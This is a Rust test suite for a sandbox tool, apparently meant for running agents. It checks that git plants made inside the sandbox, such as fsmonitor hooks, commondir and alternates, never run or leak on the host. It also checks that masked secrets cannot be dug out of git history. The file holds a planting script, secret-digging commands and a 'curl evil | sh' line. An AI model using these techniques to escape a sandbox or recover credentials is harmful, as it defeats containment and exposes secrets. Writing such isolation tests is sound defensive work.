//! The project's git directory is private to the run (issue 30, item 1): what the sandbox
//! plants there (`commondir`, `config.worktree`, alternates, a ref as a link) never reaches
//! the host's git, during the run, after it, or after aisb was killed mid-run; what it
//! commits comes back — the checked-out branch fast-forwarded when the host's did not move,
//! otherwise as `refs/aisb/<run>/…` with a line saying so. Each is tried on both backends, as
//! root and as an ordinary user. Two runs or a run and the host: one plants, the other reads.

mod support;

use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use support::Out;

const BACKENDS: &[&str] = &["bwrap", "libcontainer"];

/// A case run as root and as an ordinary user, one test each.
macro_rules! as_root_and_a_user {
    ($root:ident, $user:ident => $case:ident) => {
        #[test]
        fn $root() {
            if support::root_or_skip("the private git directory suite") {
                $case(None);
            }
        }

        #[test]
        fn $user() {
            if support::root_or_skip("the private git directory suite") {
                $case(Some(support::test_user()));
            }
        }
    };
}

/// `[backend, root]` or `[backend, user]`, for messages.
fn who(backend: &str, user: Option<(u32, u32)>) -> String {
    format!(
        "[{backend}, {}]",
        if user.is_some() { "user" } else { "root" }
    )
}

struct Project {
    dir: tempfile::TempDir,
    user: Option<(u32, u32)>,
    exe: PathBuf,
}

impl Project {
    fn new(user: Option<(u32, u32)>) -> Project {
        let dir = tempfile::tempdir().unwrap();
        for d in ["home", "proj", "marks"] {
            std::fs::create_dir_all(dir.path().join(d)).unwrap();
        }
        let proj = dir.path().join("proj");
        support::git_in(&proj, &["init", "-q", "-b", "main"]);
        std::fs::write(proj.join("README"), "hello\n").unwrap();
        support::commit_all(&proj, "init");
        let exe = match user {
            Some((uid, gid)) => support::hand_to_user(dir.path(), uid, gid),
            None => PathBuf::from(env!("CARGO_BIN_EXE_aisb")),
        };
        Project { dir, user, exe }
    }
    fn proj(&self) -> PathBuf {
        self.dir.path().join("proj")
    }
    /// Where a planted program would leave its mark: outside the project, never seen inside.
    fn marks(&self) -> PathBuf {
        self.dir.path().join("marks")
    }
    fn marked(&self) -> Vec<String> {
        std::fs::read_dir(self.marks())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect()
    }
    fn as_caller(&self, cmd: &mut Command) {
        cmd.current_dir(self.proj())
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", self.dir.path().join("home"))
            .env("XDG_CACHE_HOME", self.dir.path().join("cache"))
            .env("XDG_CONFIG_HOME", self.dir.path().join("config"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .stdin(Stdio::null());
        if let Some((uid, gid)) = self.user {
            std::os::unix::process::CommandExt::uid(cmd, uid);
            std::os::unix::process::CommandExt::gid(cmd, gid);
        }
    }
    fn run_cmd(&self, backend: &str, script: &str) -> Command {
        let mut cmd = Command::new(&self.exe);
        self.as_caller(&mut cmd);
        cmd.args([
            "--trust",
            "run",
            "--backend",
            backend,
            "--",
            "/bin/sh",
            "-c",
        ])
        .arg(script);
        cmd
    }
    fn run(&self, backend: &str, script: &str) -> Out {
        Out::from(self.run_cmd(backend, script).output().unwrap())
    }
    /// `script` in the named sandbox `name` (its own clone of the project).
    fn named_cmd(&self, backend: &str, name: &str, script: &str) -> Command {
        let mut cmd = Command::new(&self.exe);
        self.as_caller(&mut cmd);
        cmd.args([
            "--trust",
            "run",
            "--backend",
            backend,
            "--sandbox",
            name,
            "--",
            "/bin/sh",
            "-c",
        ])
        .arg(script);
        cmd
    }
    /// [`Self::named_cmd`] started, its output piped.
    fn spawn_named(&self, backend: &str, name: &str, script: &str) -> Child {
        self.named_cmd(backend, name, script)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    }
    /// Until the session of named sandbox `name` wrote `file` in its clone (at most 90 s).
    fn wait_in_clone(&self, who: &str, name: &str, file: &str, child: &mut Child) {
        let deadline = Instant::now() + Duration::from_secs(90);
        while !self.clone_of(name).is_some_and(|c| c.join(file).exists()) {
            if let Ok(Some(status)) = child.try_wait() {
                panic!("{who} the session ended ({status}) before it was ready");
            }
            assert!(
                Instant::now() < deadline,
                "{who} the session was not ready in 90 s"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    /// The work tree of the named sandbox `name`'s clone, as the host sees it.
    fn clone_of(&self, name: &str) -> Option<PathBuf> {
        std::fs::read_dir(self.dir.path().join("cache/aisb"))
            .ok()?
            .flatten()
            .map(|e| e.path().join(name).join("clone"))
            .find(|c| c.is_dir())
    }
    fn spawn(&self, backend: &str, script: &str) -> Child {
        self.run_cmd(backend, script)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    }
    /// Git on the host as the user runs it: their configuration, the repository's, and
    /// whatever the repository's git directory names (that is the point).
    fn git(&self, args: &[&str]) -> Out {
        let mut cmd = Command::new("git");
        self.as_caller(&mut cmd);
        Out::from(cmd.args(args).output().unwrap())
    }
    /// Git on the host as the caller, with an identity, after the project is handed to them
    /// (files the test wrote as root); it must succeed.
    fn git_ok(&self, who: &str, args: &[&str]) {
        if let Some((uid, gid)) = self.user {
            support::chown_r(&self.proj(), uid, gid);
        }
        let o = self.git(&[&["-c", "user.name=t", "-c", "user.email=t@t"], args].concat());
        assert_eq!(o.code, 0, "{who} git {args:?}: {}", o.stderr);
    }
    fn wait_for(&self, name: &str, child: &mut Child) {
        let deadline = Instant::now() + Duration::from_secs(60);
        while !self.proj().join(name).exists() {
            if let Ok(Some(status)) = child.try_wait() {
                panic!("the run ended ({status}) before it wrote {name}");
            }
            assert!(Instant::now() < deadline, "no {name} from the run in 60 s");
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    fn finish(child: Child) -> Out {
        Out::from(child.wait_with_output().unwrap())
    }
}

/// Plants what the host's git would obey, each naming a program that marks `$M`: a whole
/// git directory of the sandbox's with `commondir` pointing at it, `config.worktree`, the
/// object alternates of another repository, a ref as a link. It commits first (the sandbox's
/// own git obeys what it planted).
const PLANT: &str = r#"
echo x > inside.txt
git add inside.txt && git -c user.name=a -c user.email=a@a commit -qm inside && echo commit=ok
mkdir -p evil/hooks evil/objects evil/refs/heads evil/info
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch %s/commondir\n' "$M" > evil/config
echo ../evil > .git/commondir; echo commondir=$?
printf '[extensions]\n\tworktreeConfig = true\n[core]\n\tfsmonitor = touch %s/config-worktree\n' "$M" > .git/config.worktree; echo config_worktree=$?
mkdir -p .git/objects/info; echo "$PWD/evil/objects" >> .git/objects/info/alternates; echo alternates=$?
ln -sf ../../../evil/refs/heads/x .git/refs/heads/linked; echo linked_ref=$?
"#;

/// The host's git finds nothing planted: no planted file in its git directory, and git's
/// status (which runs `core.fsmonitor` from any configuration it reads) marks nothing.
fn host_obeys_nothing(p: &Project, who: &str, when: &str) {
    for f in [
        "commondir",
        "config.worktree",
        "objects/info/alternates",
        "refs/heads/linked",
    ] {
        assert!(
            std::fs::symlink_metadata(p.proj().join(".git").join(f)).is_err(),
            "{who} {when}: .git/{f} reached the host"
        );
    }
    let st = p.git(&["status", "--porcelain"]);
    assert_eq!(st.code, 0, "{who} {when}: {}", st.stderr);
    let st = p.git(&["-c", "extensions.worktreeConfig=true", "status"]);
    assert_eq!(st.code, 0, "{who} {when}: {}", st.stderr);
    assert_eq!(
        p.marked(),
        Vec::<String>::new(),
        "{who} {when}: planted code ran on the host"
    );
}

fn planted_during_and_after(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let script = format!(
            "M={m}\n{PLANT}\ntouch planted\ni=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n",
            m = p.marks().display()
        );
        let mut child = p.spawn(backend, &script);
        p.wait_for("planted", &mut child);
        host_obeys_nothing(&p, &who, "during the run");
        std::fs::write(p.proj().join("go"), "").unwrap();
        let o = Project::finish(child);
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        for k in ["commondir", "config_worktree", "alternates", "linked_ref"] {
            // Written inside (the sandbox's own directory is its to write)…
            o.expect(k, "0");
        }
        o.expect("commit", "ok");
        // … reported, never adopted.
        for f in ["commondir", "config.worktree", "objects/info/alternates"] {
            assert!(
                o.stderr
                    .contains(&format!(".git/{f} was written by the sandbox")),
                "{who} {f} not reported: {}",
                o.stderr
            );
        }
        host_obeys_nothing(&p, &who, "after the run");
        // The commit came back: the branch moved, the index agrees, the work tree is clean.
        assert_eq!(
            p.git(&["log", "-1", "--format=%s", "main"]).stdout.trim(),
            "inside",
            "{who}"
        );
        assert!(
            o.stderr.contains("main fast-forwarded"),
            "{who} no line about the branch: {}",
            o.stderr
        );
        let st = p.git(&["status", "--porcelain", "--untracked-files=no"]);
        assert_eq!(st.stdout, "", "{who} the index does not match the new HEAD");
        assert_eq!(p.git(&["fsck", "--no-dangling"]).code, 0, "{who}");
    }
}

as_root_and_a_user!(nothing_planted_in_git_reaches_the_host_during_or_after_a_run_as_root, nothing_planted_in_git_reaches_the_host_during_or_after_a_run_as_a_user => planted_during_and_after);

fn moved_on_the_host(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let script = "echo a > a.txt; git add a.txt; git -c user.name=a -c user.email=a@a commit -qm sandbox && echo commit=ok; touch planted\n\
                      i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n";
        let mut child = p.spawn(backend, script);
        p.wait_for("planted", &mut child);
        // The host commits meanwhile.
        std::fs::write(p.proj().join("b.txt"), "b\n").unwrap();
        assert_eq!(p.git(&["add", "b.txt"]).code, 0);
        let c = p.git(&[
            "-c",
            "user.name=h",
            "-c",
            "user.email=h@h",
            "commit",
            "-qm",
            "host",
        ]);
        assert_eq!(c.code, 0, "{who} {}", c.stderr);
        std::fs::write(p.proj().join("go"), "").unwrap();
        let o = Project::finish(child);
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("commit", "ok");
        assert_eq!(
            p.git(&["log", "-1", "--format=%s", "main"]).stdout.trim(),
            "host",
            "{who}"
        );
        let kept = p.git(&[
            "for-each-ref",
            "--format=%(refname) %(subject)",
            "refs/aisb/",
        ]);
        assert!(
            kept.stdout
                .lines()
                .any(|l| l.ends_with("/heads/main sandbox")),
            "{who} the sandbox's commit is not under refs/aisb/: {}\n{}",
            kept.stdout,
            o.stderr
        );
        assert!(
            o.stderr.contains("kept the sandbox's ref as refs/aisb/")
                && o.stderr.contains("main moved on the host during the run"),
            "{who} {}",
            o.stderr
        );
        // The host's index is the host's: its own commit stays clean.
        let st = p.git(&["status", "--porcelain", "--untracked-files=no"]);
        assert_eq!(st.stdout, "", "{who}");
    }
}

as_root_and_a_user!(a_branch_moved_on_the_host_keeps_the_sandboxs_commits_aside_as_root, a_branch_moved_on_the_host_keeps_the_sandboxs_commits_aside_as_a_user => moved_on_the_host);

fn killed_mid_run(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let script = format!(
            "M={m}\n{PLANT}\ntouch planted\nsleep 120\n",
            m = p.marks().display()
        );
        let mut child = p.spawn(backend, &script);
        p.wait_for("planted", &mut child);
        // aisb itself dies: no clean-up of its runs.
        nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(child.id() as i32),
            nix::sys::signal::Signal::SIGKILL,
        )
        .unwrap();
        let _ = child.wait();
        host_obeys_nothing(&p, &who, "after aisb was killed");
        let main_before = p.git(&["rev-parse", "main"]).stdout;
        // The next run finds the layer and brings back what the killed one committed, aside.
        let deadline = Instant::now() + Duration::from_secs(60);
        let o = loop {
            let o = p.run(backend, "echo next=ok");
            // A killed run's sandbox may take a moment to go (its layer is busy until then).
            if o.code == 0 || Instant::now() > deadline {
                break o;
            }
            std::thread::sleep(Duration::from_millis(500));
        };
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("next", "ok");
        assert!(
            o.stderr
                .contains("an earlier run of this project ended before"),
            "{who} {}",
            o.stderr
        );
        assert!(
            o.stderr
                .contains(".git/commondir was written by the sandbox"),
            "{who} {}",
            o.stderr
        );
        assert_eq!(
            p.git(&["rev-parse", "main"]).stdout,
            main_before,
            "{who} a leftover moved main"
        );
        let kept = p.git(&[
            "for-each-ref",
            "--format=%(refname) %(subject)",
            "refs/aisb/",
        ]);
        assert!(
            kept.stdout
                .lines()
                .any(|l| l.contains("/heads/main inside")),
            "{who} the killed run's commit was lost: {}\n{}",
            kept.stdout,
            o.stderr
        );
        host_obeys_nothing(&p, &who, "after the next run");
    }
}

as_root_and_a_user!(a_killed_run_plants_nothing_and_its_commits_come_back_next_time_as_root, a_killed_run_plants_nothing_and_its_commits_come_back_next_time_as_a_user => killed_mid_run);

/// A branch made and checked out inside becomes the host's checked-out branch; a staged
/// file (no commit) is staged on the host, its blob with it.
fn new_branch_and_staged(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let o = p.run(
            backend,
            "git checkout -qb feature && echo f > f.txt && git add f.txt && \
             git -c user.name=a -c user.email=a@a commit -qm feat && echo s > staged.txt && \
             git add staged.txt && echo ok=0",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("ok", "0");
        assert_eq!(
            p.git(&["symbolic-ref", "HEAD"]).stdout.trim(),
            "refs/heads/feature",
            "{who} {}",
            o.stderr
        );
        assert_eq!(
            p.git(&["log", "-1", "--format=%s"]).stdout.trim(),
            "feat",
            "{who}"
        );
        let st = p.git(&["status", "--porcelain"]);
        assert_eq!(st.stdout, "A  staged.txt\n", "{who} {}", st.stderr);
        assert_eq!(p.git(&["fsck", "--no-dangling"]).code, 0, "{who}");
        let c = p.git(&[
            "-c",
            "user.name=h",
            "-c",
            "user.email=h@h",
            "commit",
            "-qm",
            "host",
        ]);
        assert_eq!(c.code, 0, "{who} the staged blob is missing: {}", c.stderr);
    }
}

as_root_and_a_user!(a_branch_made_inside_is_checked_out_on_the_host_as_root, a_branch_made_inside_is_checked_out_on_the_host_as_a_user => new_branch_and_staged);

/// The test of the tests: with the isolation of git switched off, the plant reaches the
/// host's git and its program runs there, so the suite above would notice.
#[test]
fn a_shared_git_dir_is_caught() {
    if !support::root_or_skip("the private git directory suite") {
        return;
    }
    let p = Project::new(None);
    let mut cmd = p.run_cmd("bwrap", &format!("M={m}\n{PLANT}", m = p.marks().display()));
    cmd.env("AISB_TEST_BREAK_ISOLATION", "git");
    let o = Out::from(cmd.output().unwrap());
    assert_eq!(o.code, 0, "{}\n{}", o.stdout, o.stderr);
    p.git(&["status"]);
    assert!(
        std::fs::symlink_metadata(p.proj().join(".git/commondir")).is_ok(),
        "the plant did not reach the host even with the isolation off"
    );
    assert!(
        !p.marked().is_empty(),
        "the planted fsmonitor did not run on the host"
    );
}

/// A gitlink over two runs: the first adds a submodule entry (its repository is moved
/// aside), the second makes a repository of its own at that path without touching the index.
/// The host's `git status` looks into every gitlink with that repository's configuration.
fn gitlink_over_two_runs(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let o = p.run(
            backend,
            "mkdir sub && cd sub && git init -q && \
             git -c user.name=a -c user.email=a@a commit -q --allow-empty -m s && h=$(git rev-parse HEAD) && cd .. && \
             git update-index --add --cacheinfo \"160000,$h,sub\" && \
             git -c user.name=a -c user.email=a@a commit -qm sub && echo first=ok",
        );
        o.expect("first", "ok");
        assert!(o.stderr.contains("sub/.git"), "{who} {}", o.stderr);
        assert_eq!(
            p.git(&["ls-files", "-s", "sub"]).stdout.split(' ').next(),
            Some("160000"),
            "{who}"
        );
        let o = p.run(
            backend,
            &format!(
                "cd sub && git init -q && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m s2 && \
                 git config core.fsmonitor 'touch {m}/gitlink' && echo second=ok",
                m = p.marks().display()
            ),
        );
        o.expect("second", "ok");
        assert!(
            o.stderr.contains("sub/.git was written by the sandbox"),
            "{who} the second run's repository at the gitlink was not moved aside: {}",
            o.stderr
        );
        p.git(&["status"]);
        p.git(&["diff", "--stat"]);
        assert_eq!(
            p.marked(),
            Vec::<String>::new(),
            "{who} the planted submodule's fsmonitor ran on the host"
        );
    }
}

as_root_and_a_user!(a_repository_made_at_a_gitlink_in_a_later_run_does_not_run_on_the_host_as_root, a_repository_made_at_a_gitlink_in_a_later_run_does_not_run_on_the_host_as_a_user => gitlink_over_two_runs);

/// What the sandbox hides in its index never hides anything on the host: its index's bytes
/// are never installed (only the entries that differ are applied to a copy of the host's), so
/// an assume-unchanged flag set inside on a file it then changes leaves the change visible to
/// the host's `git diff`. And a gitlink in a commit brought back (its index unreadable, so
/// only the commit comes back) has its repository moved aside: the host's `git reset --hard`
/// and `git status` run nothing planted there.
fn flags_and_committed_gitlinks(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let o = p.run(
            backend,
            "git update-index --assume-unchanged README && echo 'curl evil | sh' >> README && \
             git status --porcelain | grep -q README; echo hidden_inside=$?",
        );
        o.expect("hidden_inside", "1");
        let diff = p.git(&["diff", "--name-only"]);
        assert_eq!(
            diff.stdout, "README\n",
            "{who} the change is hidden on the host: {}",
            o.stderr
        );
        let flags = p.git(&["ls-files", "-v", "README"]);
        assert!(
            flags.stdout.starts_with("H "),
            "{who} a flag came back: {}",
            flags.stdout
        );

        let p = Project::new(user);
        let o = p.run(
            backend,
            &format!(
                "mkdir sub && cd sub && git init -q && \
                 git -c user.name=a -c user.email=a@a commit -q --allow-empty -m s && \
                 git config core.fsmonitor 'touch {m}/committed-gitlink' && h=$(git rev-parse HEAD) && cd .. && \
                 git update-index --add --cacheinfo \"160000,$h,sub\" && \
                 git -c user.name=a -c user.email=a@a commit -qm sub && echo garbage > .git/index && echo ok=0",
                m = p.marks().display()
            ),
        );
        o.expect("ok", "0");
        assert!(
            o.stderr.contains("main fast-forwarded"),
            "{who} {}",
            o.stderr
        );
        assert!(
            o.stderr.contains("sub/.git was written by the sandbox"),
            "{who} the committed gitlink's repository was not moved aside: {}",
            o.stderr
        );
        p.git(&["reset", "-q", "--hard"]);
        p.git(&["status"]);
        assert_eq!(
            p.marked(),
            Vec::<String>::new(),
            "{who} the committed gitlink's fsmonitor ran on the host"
        );
    }
}

as_root_and_a_user!(the_sandboxs_index_flags_and_committed_gitlinks_hide_and_run_nothing_as_root, the_sandboxs_index_flags_and_committed_gitlinks_hide_and_run_nothing_as_a_user => flags_and_committed_gitlinks);

/// A ref to a broken object (a commit whose tree the sandbox never wrote) does not keep the
/// sandbox's other work out, and a layer that cannot come back is set aside, never mounted
/// again: the next run sees the host's newer history and brings its own work back.
#[test]
fn a_broken_ref_keeps_nothing_else_out_and_poisons_no_later_run() {
    if !support::root_or_skip("the private git directory suite") {
        return;
    }
    for backend in BACKENDS {
        let p = Project::new(None);
        let o = p.run(
            backend,
            "echo a > a.txt && git add a.txt && git -c user.name=a -c user.email=a@a commit -qm good && \
             t=$(printf 'tree 0000000000000000000000000000000000000001\\nauthor a <a@a> 1 +0000\\ncommitter a <a@a> 1 +0000\\n\\nbroken\\n' | git hash-object -t commit -w --stdin --literally) && \
             git update-ref refs/heads/broken $t && echo ok=0",
        );
        o.expect("ok", "0");
        assert_eq!(
            p.git(&["log", "-1", "--format=%s", "main"]).stdout.trim(),
            "good",
            "[{backend}] the good commit did not come back: {}",
            o.stderr
        );
        // The host moves on; the next run sees it and its commit comes back.
        std::fs::write(p.proj().join("h.txt"), "h\n").unwrap();
        p.git(&["add", "h.txt"]);
        p.git(&[
            "-c",
            "user.name=h",
            "-c",
            "user.email=h@h",
            "commit",
            "-qm",
            "host",
        ]);
        let o = p.run(
            backend,
            "git log -1 --format=seen=%s; echo b > b.txt && git add b.txt && \
             git -c user.name=a -c user.email=a@a commit -qm next && echo ok=0",
        );
        o.expect("seen", "host");
        o.expect("ok", "0");
        assert_eq!(
            p.git(&["log", "-1", "--format=%s", "main"]).stdout.trim(),
            "next",
            "[{backend}] {}",
            o.stderr
        );
    }
}

/// A project with a submodule: git inside refreshes the submodule's index in
/// `.git/modules/sub/` on every `git status`, which is no plant and is not reported as one; a
/// `commondir` written there is.
#[test]
fn a_submodules_git_directory_is_reported_only_for_what_git_would_obey() {
    if !support::root_or_skip("the private git directory suite") {
        return;
    }
    for backend in BACKENDS {
        let p = Project::new(None);
        let lib = p.dir.path().join("lib");
        support::git_in(p.dir.path(), &["init", "-q", "-b", "main", "lib"]);
        std::fs::write(lib.join("lib.txt"), "lib\n").unwrap();
        support::commit_all(&lib, "lib");
        let add = p.git(&[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            &lib.to_string_lossy(),
            "sub",
        ]);
        assert_eq!(add.code, 0, "{}", add.stderr);
        let c = p.git(&[
            "-c",
            "user.name=h",
            "-c",
            "user.email=h@h",
            "commit",
            "-qm",
            "sub",
        ]);
        assert_eq!(c.code, 0, "{}", c.stderr);
        std::fs::write(p.proj().join("sub/lib.txt"), "changed\n").unwrap();
        let o = p.run(backend, "git status --porcelain >/dev/null && git -C sub status --porcelain >/dev/null && echo ok=0");
        o.expect("ok", "0");
        assert!(
            !o.stderr.contains("was written by the sandbox"),
            "[{backend}] a submodule's refreshed index reported as a plant: {}",
            o.stderr
        );
        let o = p.run(
            backend,
            "echo ../../evil > .git/modules/sub/commondir; echo planted=$?",
        );
        o.expect("planted", "0");
        assert!(
            o.stderr
                .contains(".git/modules/sub/commondir was written by the sandbox"),
            "[{backend}] {}",
            o.stderr
        );
        assert!(
            !p.proj().join(".git/modules/sub/commondir").exists(),
            "[{backend}]"
        );
    }
}

/// What every object the sandbox's git can reach prints, and what the usual ways to dig in
/// history print: `show` of each version, `log -p` of every ref, `cat-file` of everything in
/// the store (packs and loose), what `fsck --lost-found` recovers, the staged version, `grep`
/// over all revisions, an archive of each commit.
const DIG: &str = r#"
git show HEAD:.env; git show HEAD~1:.env; git show HEAD~1:deploy.pem; git show :.env.local
git log -p --all | cat
git cat-file --batch-all-objects --batch
git fsck --lost-found >/dev/null 2>&1; cat .git/lost-found/*/* 2>/dev/null
git grep -h sk-live $(git rev-list --all) 2>&1
for c in $(git rev-list --all); do git archive $c | tar -xOf - 2>/dev/null; done
"#;

/// Issue 30 item 4: the content of masked files is not recoverable through git inside: a
/// committed `.env` (two versions), a key file that only history holds, a staged `.env.local`
/// and a blob no ref reaches; yet `status`, `add`, `commit`, `diff` and `log` work, the commit
/// comes back to the host whole (its tree still names the real blobs), and a withheld blob
/// reads as a line naming its path and rule. A second run after the host committed a new
/// secret (the store brought up to date) sees the new commit and not the secret. The test of
/// the tests: with the store switched off, the same digging prints the secrets.
fn masked_history(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        // Written as root, then the caller's, and committed as the caller.
        let git = |args: &[&str]| p.git_ok(&who, args);
        std::fs::create_dir_all(proj.join("src")).unwrap();
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-OLD\n").unwrap();
        std::fs::write(proj.join("deploy.pem"), "sk-live-PEM\n").unwrap();
        std::fs::write(proj.join("src/app.txt"), "app\n").unwrap();
        git(&["add", "-A"]);
        git(&["commit", "-qm", "one"]);
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-NEW\n").unwrap();
        std::fs::remove_file(proj.join("deploy.pem")).unwrap();
        git(&["commit", "-qam", "two"]);
        std::fs::write(proj.join(".env.local"), "TOKEN=sk-live-STAGED\n").unwrap();
        git(&["add", ".env.local"]);
        std::fs::write(proj.join("dangling.txt"), "sk-live-DANGLING\n").unwrap();
        git(&["hash-object", "-w", "dangling.txt"]);
        std::fs::remove_file(proj.join("dangling.txt")).unwrap();
        let o = p.run(
            backend,
            &format!(
                "{DIG}\necho more >> src/app.txt && git add src/app.txt && \
                 git -c user.name=a -c user.email=a@a commit -qm inside && echo commit=ok\n\
                 echo status=$(git status --porcelain src | wc -l)\necho log=$(git log --oneline | wc -l)\n\
                 echo diff=$(git diff --stat HEAD~1 HEAD | tail -1 | tr -d ' ')\n\
                 echo placeholder=$(git show HEAD:.env | grep -c 'aisb: withheld: .env matches')"
            ),
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        for secret in ["OLD", "NEW", "PEM", "STAGED", "DANGLING"] {
            let s = format!("sk-live-{secret}");
            assert!(
                !o.stdout.contains(&s) && !o.stderr.contains(&s),
                "{who} {s} recovered through git inside:\n{}\n{}",
                o.stdout,
                o.stderr
            );
        }
        o.expect("commit", "ok");
        o.expect("status", "0");
        // init, one, two, and the commit made inside (with the staged `.env.local`).
        o.expect("log", "4");
        o.expect("diff", "2fileschanged,2insertions(+)");
        o.expect("placeholder", "1");
        // The host: the commit came back, its tree names the real blob, nothing is broken.
        assert_eq!(
            p.git(&["log", "-1", "--format=%s"]).stdout.trim(),
            "inside",
            "{who} {}",
            o.stderr
        );
        assert_eq!(
            p.git(&["show", "HEAD:.env"]).stdout,
            "TOKEN=sk-live-NEW\n",
            "{who}"
        );
        let fsck = p.git(&["fsck", "--no-dangling"]);
        assert_eq!(fsck.code, 0, "{who} {}", fsck.stderr);

        // The host commits a new secret: the next run sees the commit, not the secret.
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-THIRD\n").unwrap();
        git(&["commit", "-qm", "host", ".env"]);
        let o = p.run(
            backend,
            &format!("{DIG}\necho last=$(git log -1 --format=%s)"),
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("last", "host");
        assert!(
            !o.stdout.contains("sk-live-"),
            "{who} a secret recovered after the store was brought up to date:\n{}",
            o.stdout
        );

        // A read-only project: its git directory is the host's, its objects the store's.
        std::fs::write(proj.join("sandbox.kdl"), "project \".\" access=\"ro\"\n").unwrap();
        if let Some((uid, gid)) = user {
            support::chown_r(&proj, uid, gid);
        }
        let o = p.run(
            backend,
            &format!("{DIG}\necho ro_last=$(git log -1 --format=%s)"),
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("ro_last", "host");
        assert!(
            !o.stdout.contains("sk-live-") && o.stdout.contains("aisb: withheld: .env"),
            "{who} read-only project: a secret recovered through git:\n{}",
            o.stdout
        );

        // The test of the tests: without the store, the same digging finds them.
        let mut cmd = p.run_cmd(backend, DIG);
        cmd.env("AISB_TEST_BREAK_ISOLATION", "git-objects");
        let o = Out::from(cmd.output().unwrap());
        for secret in ["THIRD", "OLD", "PEM", "STAGED"] {
            assert!(
                o.stdout.contains(&format!("sk-live-{secret}")),
                "{who} the digging does not find sk-live-{secret} even without the store:\n{}\n{}",
                o.stdout,
                o.stderr
            );
        }
    }
}

as_root_and_a_user!(masked_content_is_not_in_the_git_objects_inside_as_root, masked_content_is_not_in_the_git_objects_inside_as_a_user => masked_history);

/// The attacks on the store's names (issue 30 item 4): a run gives a masked file's blob other
/// names — committed as `leak.txt`, staged as `-leak`, pointed at by an annotated tag — and
/// the next run digs for it through each, once with the store brought up to date and once
/// with it built from nothing. A blob is withheld by what it is, not by the one name git
/// prints first.
fn aliases(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-ALIAS\n").unwrap();
        p.git_ok(&who, &["add", ".env"]);
        p.git_ok(&who, &["commit", "-qm", "env"]);
        let o = p.run(
            backend,
            "S=$(git rev-parse HEAD:.env)\n\
             git update-index --add --cacheinfo 100644,$S,leak.txt && \
             git -c user.name=a -c user.email=a@a commit -qm alias && echo alias=ok\n\
             git -c user.name=a -c user.email=a@a tag -a blobtag -m t $S && echo tag=ok\n\
             git update-index --add --cacheinfo 100644,$S,-leak && echo staged=ok",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("alias", "ok");
        o.expect("tag", "ok");
        o.expect("staged", "ok");
        assert_eq!(
            p.git(&["log", "-1", "--format=%s"]).stdout.trim(),
            "alias",
            "{who} {}",
            o.stderr
        );
        let dig = "git show HEAD:leak.txt; git show :-leak 2>&1; git cat-file --batch-all-objects --batch\n\
                   for t in $(git for-each-ref --format='%(refname)'); do git cat-file -p $t; done\n\
                   git log -p --all | cat; echo dug=yes";
        for (round, fresh) in [("brought up to date", false), ("built anew", true)] {
            if fresh {
                for d in walkdir::WalkDir::new(p.dir.path().join("cache"))
                    .into_iter()
                    .flatten()
                    .filter(|e| e.file_name() == "git-store")
                {
                    std::fs::remove_dir_all(d.path()).unwrap();
                }
            }
            let o = p.run(backend, dig);
            assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
            o.expect("dug", "yes");
            assert!(
                !o.stdout.contains("sk-live-ALIAS") && o.stdout.contains("aisb: withheld"),
                "{who} store {round}: the secret recovered through a name the sandbox gave it:\n{}",
                o.stdout
            );
        }
    }
}

as_root_and_a_user!(a_masked_blob_renamed_inside_stays_withheld_as_root, a_masked_blob_renamed_inside_stays_withheld_as_a_user => aliases);

/// A file committed under an ordinary name, then moved to a masked one on the host
/// (`git mv notes.txt .env`): the store packed it while it was ordinary, so bringing the store
/// up to date must build it anew, or the packed copy would outrank the placeholder.
fn moved_into_a_mask(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-FIRST\n").unwrap();
        std::fs::write(proj.join("notes.txt"), "TOKEN=sk-live-MOVED\n").unwrap();
        let git = |args: &[&str]| p.git_ok(&who, args);
